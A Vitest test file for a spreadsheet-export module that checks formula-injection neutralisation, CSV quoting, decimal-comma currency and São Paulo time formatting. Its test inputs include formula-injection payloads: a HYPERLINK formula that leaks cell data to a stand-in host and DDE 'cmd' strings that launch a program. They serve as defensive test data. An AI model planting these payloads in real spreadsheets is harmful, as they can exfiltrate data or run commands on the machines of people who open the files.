import { describe, expect, it } from "vitest";
import {
  csvCents,
  csvDateTime,
  csvField,
  csvLine,
  neutralizeFormula,
  xlsxDate,
  xlsxDateTime,
} from "./spreadsheet.js";

describe("neutralizeFormula", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1;"Clique")',
      `'=HYPERLINK("http://evil.example/?x="&A1;"Clique")`,
    ],
    ["=1+1", "'=1+1"],
    ["+55 11 99999-0000", "'+55 11 99999-0000"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("puts an apostrophe before %j", (input, out) => {
    expect(neutralizeFormula(input)).toBe(out);
  });

  it.each(["Padaria Pão Quente", "Certidão negativa", "1+1", "a=b", "", "'já com apóstrofo", " =1"])(
    "leaves %j as it is",
    (input) => {
      expect(neutralizeFormula(input)).toBe(input);
    },
  );
});

describe("CSV dialect", () => {
  it("quotes fields with the separator, quotes or line breaks", () => {
    expect(csvField("simples")).toBe("simples");
    expect(csvField("a;b")).toBe('"a;b"');
    expect(csvField('diz "oi"')).toBe('"diz ""oi"""');
    expect(csvField("linha\nnova")).toBe('"linha\nnova"');
    expect(csvField("cr\rx")).toBe('"cr\rx"');
    expect(csvLine(["a", "b;c", ""])).toBe('a;"b;c";\r\n');
  });

  it("writes centavos with a decimal comma and no thousands dot", () => {
    expect(csvCents(123456)).toBe("1234,56");
    expect(csvCents(5)).toBe("0,05");
    expect(csvCents(0)).toBe("0,00");
    expect(csvCents(-1050)).toBe("-10,50");
    expect(csvCents(100_000_000_000)).toBe("1000000000,00");
    expect(() => csvCents(1.5)).toThrow(RangeError);
  });

  it("writes instants in São Paulo's wall clock", () => {
    expect(csvDateTime(new Date("2026-03-05T02:30:00Z"))).toBe("04/03/2026 23:30");
    expect(csvDateTime(new Date("2026-12-31T15:05:00Z"))).toBe("31/12/2026 12:05");
  });

  it("gives XLSX dates the São Paulo fields in UTC", () => {
    expect(xlsxDateTime(new Date("2026-03-05T02:30:00Z")).toISOString()).toBe("2026-03-04T23:30:00.000Z");
    expect(xlsxDate("2026-03-05").toISOString()).toBe("2026-03-05T00:00:00.000Z");
  });
});
